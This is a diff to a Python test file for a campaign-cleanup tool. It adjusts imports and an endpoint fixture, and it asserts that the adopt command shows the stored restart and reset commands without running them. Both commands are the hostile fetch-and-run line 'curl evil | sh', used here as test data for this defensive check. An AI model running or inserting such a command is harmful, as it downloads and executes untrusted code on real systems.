@@ -16,6 +16,7 @@ from steelyard.campaign.cleanup.leftovers import adopt
 from steelyard.campaign.run import session
 from steelyard.cli import launching
 from steelyard.cli.main import cli
+from steelyard.core.campaign import Status
 from steelyard.core.errors import ExitCode, LeftBehindError, PreflightError, RecordError
 from steelyard.core.kubernetes import CLUSTER, NAMESPACE, ObjectRef
 from steelyard.core.outside import (
@@ -26,7 +27,6 @@ from steelyard.core.outside import (
     SavedSetting,
     TurnedKnob,
 )
-from steelyard.core.plan import Status
 from steelyard.core.stack import Knob, KnobKind
 from steelyard.core.target import EndpointTarget
 from steelyard.gateways import doors as doors_module
@@ -113,7 +113,9 @@ _CLAIMS = {
 def _record(path: Path, *claims: Entry, campaign_id: str = _ID, uri: str = "db") -> Path:
     """Return a record as anybody can write one, with whole checksums."""
     experiment = an_experiment()
-    aimed = EndpointTarget(uri=uri, restart_command=_AGAIN)
+    aimed = EndpointTarget(
+        uri=uri, restart_command=_AGAIN, reset_command=_AGAIN, allow_existing=True
+    )
     configurations = tuple(replace(each, target=aimed) for each in experiment.configurations)
     experiment = replace(experiment, configurations=configurations)
     directory = CampaignDirectory.create(path, FakeClock(), experiment_text="version: 1\n")
@@ -233,6 +235,7 @@ def test_taking_over_touches_nothing_and_lets_the_campaign_go_on(tmp_path: Path)
     for _, text in _CLAIMS.values():
         assert text in shown.output
     assert '"restart_command":["sh","-c","curl evil | sh"]' in shown.output
+    assert '"reset_command":["sh","-c","curl evil | sh"]' in shown.output
     assert len(read_standing(path).left) == len(_CLAIMS)
     result = _clean("--adopt", "--yes", path)
     assert result.exit_code == 0, result.exception
